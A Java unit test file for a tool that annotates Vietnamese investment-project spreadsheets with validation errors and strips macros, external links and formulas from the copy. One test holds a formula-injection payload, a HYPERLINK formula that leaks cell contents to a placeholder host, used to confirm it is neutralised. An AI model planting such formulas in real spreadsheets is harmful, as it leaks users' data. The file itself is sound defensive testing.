package vn.lienket.workbook.annotate;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.IndexedColors;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.poi.ss.util.CellReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.lienket.workbook.report.Verdict;
import vn.lienket.workbook.testing.Checks;
import vn.lienket.workbook.testing.Formula;
import vn.lienket.workbook.testing.MinimalPackage;
import vn.lienket.workbook.testing.WorkbookFixtures;
import vn.lienket.workbook.testing.ZipEdit;

class AnnotatedWorkbookWriterTest {

    private static final String PLAIN_WORKBOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

    @TempDir
    Path dir;

    private WorkbookFixtures broken() {
        return WorkbookFixtures.valid()
                .set("DuAn", 3, "Vốn đăng ký (tỷ đồng)", -5)
                .set("DuAn", 4, "Nhà đầu tư", null)
                .set("DuAn", 2, "Vốn đã thực hiện (tỷ đồng)", 2000);
    }

    private AnnotatedCopy.Written annotate(Path original) {
        Checks checks = Checks.run(original);
        AnnotatedCopy copy = new AnnotatedWorkbookWriter().write(original, checks.result.report(), dir.resolve("annotated.xlsx"));
        assertThat(copy).isInstanceOf(AnnotatedCopy.Written.class);
        assertThat(dir.resolve("annotated.xlsx.partial")).doesNotExist();
        return (AnnotatedCopy.Written) copy;
    }

    private static Workbook open(Path file) throws Exception {
        try (InputStream in = Files.newInputStream(file)) {
            return WorkbookFactory.create(in);
        }
    }

    private static Cell cell(Workbook workbook, String reference) {
        CellReference ref = new CellReference(reference);
        return workbook.getSheet(ref.getSheetName()).getRow(ref.getRow()).getCell(ref.getCol());
    }

    private static void assertAnnotated(Workbook workbook) {
        Sheet summary = workbook.getSheetAt(0);
        assertThat(summary.getSheetName()).isEqualTo("Lỗi");
        assertThat(workbook.getActiveSheetIndex()).isZero();
        assertThat(summary.getRow(0).getCell(0).getStringCellValue()).contains("2 lỗi, 1 cảnh báo");
        assertThat(summary.getRow(2).getCell(5).getStringCellValue()).isEqualTo("Nội dung");
        Row first = summary.getRow(3);
        assertThat(first.getCell(3).getStringCellValue()).isEqualTo("DuAn!G2");
        assertThat(first.getCell(3).getHyperlink().getType()).isEqualTo(HyperlinkType.DOCUMENT);
        assertThat(first.getCell(3).getHyperlink().getAddress()).isEqualTo("DuAn!G2");
        assertThat(first.getCell(4).getStringCellValue()).isEqualTo("INV_DISBURSED_EXCEEDS_REGISTERED");
        assertThat(first.getCell(1).getStringCellValue()).isEqualTo("Cảnh báo");
        assertThat(summary.getRow(5).getCell(5).getStringCellValue()).isEqualTo("Cột \"Nhà đầu tư\" bắt buộc phải nhập.");
        assertThat(summary.getRow(5).getCell(3).getHyperlink().getAddress()).isEqualTo("DuAn!D4");

        Cell negative = cell(workbook, "DuAn!F3");
        assertThat(negative.getNumericCellValue()).isEqualTo(-5);
        assertThat(negative.getCellComment().getString().getString())
                .isEqualTo("[INV_CAPITAL_NEGATIVE] Vốn ở cột \"Vốn đăng ký (tỷ đồng)\" không được âm (đang ghi -5).");
        assertThat(negative.getCellStyle().getFillForegroundColor()).isEqualTo(IndexedColors.ROSE.getIndex());
        Cell missing = cell(workbook, "DuAn!D4");
        assertThat(missing.getCellComment().getString().getString()).contains("bắt buộc phải nhập");
        assertThat(cell(workbook, "DuAn!G2").getCellStyle().getFillForegroundColor())
                .isEqualTo(IndexedColors.LIGHT_YELLOW.getIndex());
        assertThat(cell(workbook, "DuAn!B2").getCellComment()).isNull();
        assertThat(cell(workbook, "DuAn!C2").getStringCellValue()).isEqualTo("Khu du lịch sinh thái Đạ Sar");
        assertThat(cell(workbook, "DuAn!J2").getCellStyle().getDataFormatString()).isEqualTo("dd/mm/yyyy");
    }

    @Test
    void anXlsxIsCopiedWithItsValuesDateFormatsAndMarks() throws Exception {
        AnnotatedCopy.Written copy = annotate(broken().writeXlsx(dir));

        assertThat(copy.rowsNotCopied()).isZero();
        try (Workbook workbook = open(copy.file())) {
            assertAnnotated(workbook);
        }
    }

    @Test
    void anXlsIsAnnotatedAsAPlainXlsx() throws Exception {
        AnnotatedCopy.Written copy = annotate(broken().writeXls(dir));

        assertThat(ZipEdit.text(copy.file(), "[Content_Types].xml")).contains(PLAIN_WORKBOOK);
        try (Workbook workbook = open(copy.file())) {
            assertAnnotated(workbook);
        }
    }

    @Test
    void checkingTheAnnotatedCopyFindsTheSameProblemsAndIgnoresTheSummarySheet() {
        Path copy = annotate(broken().writeXlsx(dir)).file();

        Checks again = Checks.run(copy);

        assertThat(again.result.verdict()).isEqualTo(Verdict.INVALID);
        assertThat(again.problems()).extracting(p -> p.code() + "@" + p.cell()).containsExactly(
                "INV_DISBURSED_EXCEEDS_REGISTERED@DuAn!G2", "INV_CAPITAL_NEGATIVE@DuAn!F3", "VALUE_REQUIRED@DuAn!D4");
    }

    @Test
    void macrosExternalLinksAndFormulasOfTheSubmissionNeverReachTheCopy() throws Exception {
        Path xlsx = broken().set("DuAn", 2, "Số lao động", new Formula("300+50")).writeXlsx(dir);
        Path xlsm = ZipEdit.of(xlsx)
                .edit("[Content_Types].xml", types -> types.replace(PLAIN_WORKBOOK, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                        .replace("<Default ", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                                + "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\""
                                + "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/><Default "))
                .edit("xl/_rels/workbook.xml.rels", rels -> rels.replace("</Relationships>",
                        "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
                                + "<Relationship Id=\"rIdExt\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\""
                                + " Target=\"externalLinks/externalLink1.xml\"/></Relationships>"))
                .put("xl/vbaProject.bin", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1, 2, 3})
                .put("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                        + "<externalBook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rId1\"/></externalLink>")
                .write(dir.resolve("macros.xlsm"));
        Checks checks = Checks.run(xlsm);

        assertThat(checks.only("WORKBOOK_MACROS").severity().name()).isEqualTo("WARNING");
        assertThat(checks.only("WORKBOOK_MACROS").messageVi()).contains("macro (VBA)");
        AnnotatedCopy copy = new AnnotatedWorkbookWriter().write(xlsm, checks.result.report(), dir.resolve("copy.xlsx"));

        Path file = copy.written().orElseThrow();
        assertThat(ZipEdit.partNames(file)).noneMatch(name -> name.contains("vbaProject") || name.contains("externalLink"));
        String contentTypes = ZipEdit.text(file, "[Content_Types].xml");
        assertThat(contentTypes).contains(PLAIN_WORKBOOK).doesNotContain("macroEnabled").doesNotContain("vbaProject");
        try (Workbook workbook = open(file)) {
            Cell workers = cell(workbook, "DuAn!L2");
            assertThat(workers.getCellType()).as("the formula's value, not the formula").isEqualTo(CellType.NUMERIC);
            assertThat(workers.getNumericCellValue()).isEqualTo(350);
        }
    }

    @Test
    void formulaLookingTextIsCopiedAsQuotePrefixedText() throws Exception {
        String hostile = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào đây\")";
        Path original = broken().set("DuAn", 2, "Tên dự án", hostile).set("DuAn", 3, "Nhà đầu tư", "@SUM(1+1)").writeXlsx(dir);

        try (Workbook workbook = open(annotate(original).file())) {
            Cell name = cell(workbook, "DuAn!C2");
            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
            assertThat(name.getStringCellValue()).isEqualTo(hostile);
            assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(cell(workbook, "DuAn!D3").getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(cell(workbook, "DuAn!B2").getCellStyle().getQuotePrefixed()).as("ordinary text keeps its style").isFalse();
        }
    }

    /** The cases that made the in-place copy throw: POI's object model refuses them, the streamed copy does not. */
    @Test
    void aStrictWorkbookIsAnnotated() throws Exception {
        Path strict = dir.resolve("strict.xlsx");
        MinimalPackage.write(strict, MinimalPackage.Flavour.STRICT, "DuAn", "",
                "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row><row r=\"2\"><c r=\"A2\"><v>7</v></c></row></sheetData>",
                List.of("Mã dự án"), null);
        Checks checks = Checks.run(strict);
        assertThat(checks.result.verdict()).isEqualTo(Verdict.INVALID);

        AnnotatedCopy copy = new AnnotatedWorkbookWriter().write(strict, checks.result.report(), dir.resolve("copy.xlsx"));

        try (Workbook workbook = open(copy.written().orElseThrow())) {
            assertThat(workbook.getSheetAt(0).getSheetName()).isEqualTo("Lỗi");
            assertThat(cell(workbook, "DuAn!A2").getNumericCellValue()).isEqualTo(7);
        }
    }

    @Test
    void rowsOutOfOrderOrBeyondExcelsLastRowAreLeftOutAndCounted() throws Exception {
        Path original = ZipEdit.of(broken().writeXlsx(dir))
                .edit("xl/worksheets/sheet2.xml", xml -> xml.replace("</sheetData>",
                        "<row r=\"3\"><c r=\"A3\"><v>99</v></c></row><row r=\"1048577\"><c r=\"A1048577\"><v>1</v></c></row></sheetData>"))
                .write(dir.resolve("odd-rows.xlsx"));
        Checks checks = Checks.run(original);

        AnnotatedCopy copy = new AnnotatedWorkbookWriter().write(original, checks.result.report(), dir.resolve("copy.xlsx"));

        assertThat(copy).isInstanceOf(AnnotatedCopy.Written.class);
        assertThat(((AnnotatedCopy.Written) copy).rowsNotCopied()).isEqualTo(2);
        try (Workbook workbook = open(copy.written().orElseThrow())) {
            assertThat(workbook.getSheetAt(0).getRow(0).getCell(0).getStringCellValue()).contains("Bản sao không có 2 dòng");
            assertThat(cell(workbook, "DuAn!A3").getNumericCellValue()).as("the row in its place is kept").isEqualTo(2);
        }
    }

    @Test
    void aWorkbookWithHundredsOfNumberFormatsIsAnnotated() throws Exception {
        int count = 400;
        StringBuilder formats = new StringBuilder("<numFmts count=\"" + count + "\">");
        StringBuilder styles = new StringBuilder("<cellXfs count=\"" + (count + 1) + "\"><xf numFmtId=\"0\"/>");
        StringBuilder rows = new StringBuilder("<sheetData>");
        for (int i = 1; i <= count; i++) {
            formats.append("<numFmt numFmtId=\"").append(200 + i).append("\" formatCode=\"0.00&quot; lô ").append(i).append("&quot;\"/>");
            styles.append("<xf numFmtId=\"").append(200 + i).append("\" applyNumberFormat=\"1\"/>");
            rows.append("<row r=\"").append(i).append("\"><c r=\"A").append(i).append("\" s=\"").append(i).append("\"><v>")
                    .append(i).append("</v></c></row>");
        }
        Path original = dir.resolve("formats.xlsx");
        MinimalPackage.write(original, MinimalPackage.Flavour.TRANSITIONAL, "DuAn", "", rows.append("</sheetData>").toString(),
                List.of(), formats.append("</numFmts>").append(styles).append("</cellXfs>").toString());
        Checks checks = Checks.run(original);

        AnnotatedCopy copy = new AnnotatedWorkbookWriter().write(original, checks.result.report(), dir.resolve("copy.xlsx"));

        try (Workbook workbook = open(copy.written().orElseThrow())) {
            assertThat(cell(workbook, "DuAn!A1").getCellStyle().getDataFormatString()).isEqualTo("0.00\" lô 1\"");
            assertThat(cell(workbook, "DuAn!A400").getNumericCellValue()).as("every value, formatted or not").isEqualTo(400);
        }
    }

    @Test
    void anUnreadableFileHasNoCopyAndSaysWhy() throws Exception {
        Path empty = Files.write(dir.resolve("empty.xlsx"), new byte[0]);
        Checks checks = Checks.run(empty);

        AnnotatedCopy copy = new AnnotatedWorkbookWriter().write(empty, checks.result.report(), dir.resolve("copy.xlsx"));

        assertThat(copy).isEqualTo(new AnnotatedCopy.NotWritten(
                "Tệp \"empty.xlsx\" không đọc được nên không có bản sao có chú thích.",
                "File \"empty.xlsx\" could not be read, so there is no annotated copy."));
        assertThat(dir.resolve("copy.xlsx")).doesNotExist();
    }
}
